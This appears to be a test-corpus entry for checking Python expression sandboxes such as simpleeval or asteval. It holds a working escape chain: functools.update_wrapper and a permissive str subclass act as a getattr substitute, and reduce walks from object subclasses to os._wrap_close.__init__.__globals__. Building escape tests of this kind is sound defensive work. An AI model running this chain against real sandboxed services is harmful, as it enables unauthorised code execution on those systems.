# technique: functools.reduce over a list of runtime names with a getattr built from the update_wrapper gadget: object -> __subclasses__ -> ... -> __globals__
# source: simpleeval / asteval advisory class: reduce(getattr, names, obj) chains

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import functools, dataclasses

got = []


def cap(self, k, v):
    got.append(v)

Sink = dataclasses.make_dataclass('Sink', [], namespace={dn('setattr'): cap})


class S(str):
    def __eq__(self, other):
        return True

    def __hash__(self):
        return str.__hash__(self)


def ga(obj, name):
    got.clear()
    functools.update_wrapper(Sink(), obj, assigned=(S(name),), updated=())
    return got[0]


def via():
    for c in functools.reduce(ga, [dn('class'), dn('base'), dn('subclasses')], ())():
        if c.__name__ == '_wrap_close':
            return functools.reduce(ga, [dn('init'), dn('globals')], c)
    raise LookupError('no _wrap_close')

attempt('reduce(getattr-like, names)', via)
